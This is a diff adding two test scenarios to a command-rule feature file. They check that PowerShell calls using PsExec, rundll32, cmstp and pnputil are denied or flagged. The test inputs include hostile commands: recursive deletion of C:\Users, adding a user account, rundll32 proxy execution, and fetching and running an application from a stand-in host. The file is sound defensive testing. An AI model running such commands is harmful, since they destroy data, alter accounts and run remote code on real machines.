@@ -1284,3 +1284,29 @@ Feature: Command rules read what a SYSTEM call would do and refuse or ask for th
     Then the call hits no rule
     When PowerShell is asked to run "gpg --armor --export me@example.com"
     Then the call hits no rule
+
+  @S-RULE-156
+  Scenario: A command PsExec runs is judged as if typed
+    Given the built-in command rules
+    When PowerShell is asked to run "psexec -accepteula -s -d cmd /c rd /s /q C:\Users"
+    Then the call hits rule "protected-place-delete" with action "deny"
+    When PowerShell is asked to run "Start-Process psexec -ArgumentList '-s cmd /c net user x P@ss /add'"
+    Then the call hits rule "account-change" with action "deny"
+    When PowerShell is asked to run "psexec \\srv01 ipconfig /all"
+    Then the call hits no rule
+
+  @S-RULE-157
+  Scenario: rundll32's program starters and folder delete, INF files and drivers are judged
+    Given the built-in command rules
+    When PowerShell is asked to run "rundll32.exe advpack.dll,RegisterOCX cmd.exe /c rd /s /q C:\Users"
+    Then the call hits rule "protected-place-delete" with action "deny"
+    When PowerShell is asked to run "rundll32 advpack.dll,DelNodeRunDLL32 C:\Users"
+    Then the call hits rule "protected-place-delete" with action "deny"
+    When PowerShell is asked to run "rundll32 dfshim.dll,ShOpenVerbApplication http://x.example/app.application"
+    Then the call hits rule "download-execute" with action "deny"
+    When PowerShell is asked to run "cmstp /ni /s C:\t\x.inf"
+    Then the call hits rule "dynamic-command" with action "ask"
+    When PowerShell is asked to run "pnputil /add-driver C:\t\x.inf /install"
+    Then the call hits rule "persistence-autostart" with action "ask"
+    When PowerShell is asked to run "pnputil /enum-drivers"
+    Then the call hits no rule
